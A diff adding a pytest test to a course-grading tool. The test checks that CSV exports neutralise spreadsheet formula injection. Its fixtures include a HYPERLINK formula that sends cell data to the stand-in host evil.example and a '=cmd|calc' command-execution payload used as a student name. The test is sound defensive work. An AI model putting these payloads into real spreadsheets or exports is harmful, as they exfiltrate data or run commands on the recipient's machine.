@@ -165,6 +165,26 @@ def test_grading_again_keeps_every_row_of_the_file(report_file, tmp_path):
     assert text.startswith(mine) and text[len(mine):].startswith("ben,06_capstone,conclusion,,")
 
 
+def test_a_students_text_never_runs_as_a_formula_in_the_instructors_spreadsheet(tmp_path):
+    hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    result = capstone()
+    result.written[0].answer = hostile
+    report = submissions_report({"=cmd|calc": [result]}, lessons=lesson_maxima())
+    path = tmp_path / "report.json"
+    write_json(report, path)
+    manual = tmp_path / "manual.csv"
+    assert main(["export", str(path), "--csv", str(tmp_path / "g.csv"), "--manual",
+                 str(manual)]) == 0
+    (row,) = csv.DictReader(manual.open())
+    assert row["answer"] == "'" + hostile and row["student"] == "'=cmd|calc"
+    # graded in the spreadsheet and read back, the row is the student's
+    manual.write_text(manual.read_text().replace("conclusion,,", "conclusion,2,"))
+    assert main(["export", str(path), "--json", str(tmp_path / "final.json"), "--manual",
+                 str(manual)]) == 0
+    (student,) = json.loads((tmp_path / "final.json").read_text())["submissions"]
+    assert student["student"] == "=cmd|calc" and student["score"] == 7
+
+
 @pytest.mark.parametrize("line, says", [
     ("ada,06_capstone,conclusion,4,", "line 2: 4 points for conclusion, which is worth 3"),
     ("ada,06_capstone,conclusion,-1,", "line 2: points -1 must be 0 or more"),
